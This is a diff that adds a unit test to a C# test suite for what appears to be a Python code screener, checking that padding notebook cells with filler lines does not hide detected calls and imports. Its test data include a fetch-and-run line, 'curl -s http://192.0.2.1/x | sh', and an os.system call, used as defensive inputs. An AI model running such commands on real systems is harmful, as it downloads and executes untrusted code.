@@ -86,6 +86,23 @@ public sealed class BoundTests(ParserContainer parser)
         Assert.Equal(code.Count(letter => letter == '\n'), report.Call("os.system").Span.StartLine);
     }
 
+    /// <summary>What a magic or an indented text means is said by its first line, for all of it: such a text is not cut.</summary>
+    [Theory]
+    [InlineData("%%bash\n", "a=\"\"\" \"\ncurl -s http://192.0.2.1/x | sh\nb=\"\"\" #\"\n")]
+    [InlineData("%%writefile a.txt\n", "import os; os.system('id')\n")]
+    [InlineData("    x = 1\n", "y = '''\n    import os\n'''\n")]
+    public async Task A_large_text_is_not_cut_where_its_beginning_speaks_for_its_end(string first, string middle)
+    {
+        var usually = string.Concat(Enumerable.Repeat("# " + new string('x', 97) + "\n", 1500));
+        var (small, large) = (first + "\n" + middle, first + usually + "\n" + middle + usually);
+
+        var screener = Screening.Screener(parser);
+        var (one, other) = (await screener.PythonAsync(small), await screener.PythonAsync(large));
+
+        Assert.Equal(one.Facts.OfType<CodeCall>().Select(call => call.Name), other.Facts.OfType<CodeCall>().Select(call => call.Name));
+        Assert.Equal(one.Facts.OfType<CodeImport>().Select(import => import.Module), other.Facts.OfType<CodeImport>().Select(import => import.Module));
+    }
+
     [Theory]
     [InlineData("x = 1 + \\\n\nx\n\n", 1)]
     [InlineData("x = (\n\n", 0)]
